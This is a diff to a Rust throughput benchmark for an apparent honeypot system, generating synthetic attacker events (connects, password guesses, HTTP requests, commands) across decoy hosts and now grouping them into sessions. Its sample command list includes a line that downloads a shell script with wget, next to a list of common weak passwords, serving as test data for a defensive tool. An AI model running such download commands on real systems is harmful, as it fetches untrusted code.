@@ -1,6 +1,7 @@
 //! Events per second of the capture path, with the real program: 200,000 mixed events
 //! (40 % connect, 20 % credentials, 20 % http requests with headers, 15 % commands, 5 %
-//! disconnect; 1,000 attackers, 40 deckies) lie in the spools; measured are the collector
+//! disconnect; 1,000 attackers, 40 deckies, as many sessions as connects) lie in the
+//! spools; measured are the collector
 //! alone, the ingester alone on what it wrote, and both together.
 //!
 //! `cargo bench --bench ingest [EVENTS]`. Budget: 50,000 events/s into the database on
@@ -12,6 +13,7 @@
 )]
 
 use std::fs;
+use std::net::{Ipv4Addr, SocketAddr};
 use std::path::Path;
 use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
@@ -24,6 +26,8 @@ use rand::{RngExt, SeedableRng};
 
 const DECKIES: usize = 40;
 const ATTACKERS: u32 = 1000;
+/// Sessions open at once.
+const OPEN: usize = 256;
 
 fn main() {
     let events = std::env::args()
@@ -150,14 +154,35 @@ fn fill(state: &Path, events: u64) {
             spool::Writer::open(&dir, 1 << 32).unwrap()
         })
         .collect();
+    let mut open = Vec::new();
     for n in 0..events {
-        let decky = rng.random_range(0..DECKIES);
-        let event = make(&mut rng, n, &names[decky]);
+        let (decky, event) = make(&mut rng, n, &names, &mut open);
         spools[decky].append(&syslog::write(&event)).unwrap();
     }
 }
 
-fn make(rng: &mut StdRng, n: u64, decky: &str) -> Event {
+/// Somebody on a decky.
+struct Visit {
+    decky: usize,
+    src: SocketAddr,
+    session: String,
+}
+
+impl Visit {
+    fn new(rng: &mut StdRng) -> Self {
+        // Popularity of a source is about 1/rank.
+        let rank = rng.random_range(0.0f64..1.0).powi(4) * f64::from(ATTACKERS);
+        let rank = format!("{rank:.0}").parse::<u32>().unwrap();
+        let source = Ipv4Addr::from(0xc612_0001 + rank);
+        Self {
+            decky: rng.random_range(0..DECKIES),
+            src: (source, rng.random_range(1024..65535)).into(),
+            session: decnet::decoy::session::new_id(),
+        }
+    }
+}
+
+fn make(rng: &mut StdRng, n: u64, names: &[String], open: &mut Vec<Visit>) -> (usize, Event) {
     let words = ["123456", "password", "admin", "toor", "qwerty", "letmein"];
     let paths = [
         "/",
@@ -173,12 +198,20 @@ fn make(rng: &mut StdRng, n: u64, decky: &str) -> Event {
         "wget http://198.18.9.9/x.sh",
         "id",
     ];
-    // Popularity of a source is about 1/rank.
-    let rank = rng.random_range(0.0f64..1.0).powi(4) * f64::from(ATTACKERS);
-    let rank = format!("{rank:.0}").parse::<u32>().unwrap();
-    let source = std::net::Ipv4Addr::from(0xc612_0001 + rank);
     let text = |k: &str, v: &str| (k.to_owned(), v.to_owned());
-    let (service, kind, fields) = match rng.random_range(0..100) {
+    let what = rng.random_range(0..100);
+    if what < 40 || open.is_empty() {
+        if open.len() == OPEN {
+            open.swap_remove(rng.random_range(0..OPEN));
+        }
+        open.push(Visit::new(rng));
+    }
+    let at = if what < 40 {
+        open.len() - 1
+    } else {
+        rng.random_range(0..open.len())
+    };
+    let (service, kind, fields) = match what {
         0..40 => ("redis", "connect", Vec::new()),
         40..60 => {
             let word = words[rng.random_range(0..words.len())];
@@ -209,20 +242,26 @@ fn make(rng: &mut StdRng, n: u64, decky: &str) -> Event {
         ),
         _ => ("redis", "disconnect", vec![text("duration_ms", "1234")]),
     };
-    Event {
+    let visit = &open[at];
+    let event = Event {
         eid: decnet::decoy::session::new_id(),
         ts: Stamp(1_776_478_976_000_000 + i64::try_from(n).unwrap() * 700),
         severity: Severity::Info,
-        decky: decky.to_owned(),
+        decky: names[visit.decky].clone(),
         service: service.into(),
         kind: kind.into(),
         flow: Some(Flow {
-            src: (source, rng.random_range(1024..65535)).into(),
+            src: visit.src,
             dst: "127.77.0.1:6379".parse().unwrap(),
             proto: Proto::Tcp,
-            session: decnet::decoy::session::new_id(),
+            session: visit.session.clone(),
         }),
         fields,
         msg: String::new(),
+    };
+    let decky = visit.decky;
+    if kind == "disconnect" {
+        open.swap_remove(at);
     }
+    (decky, event)
 }
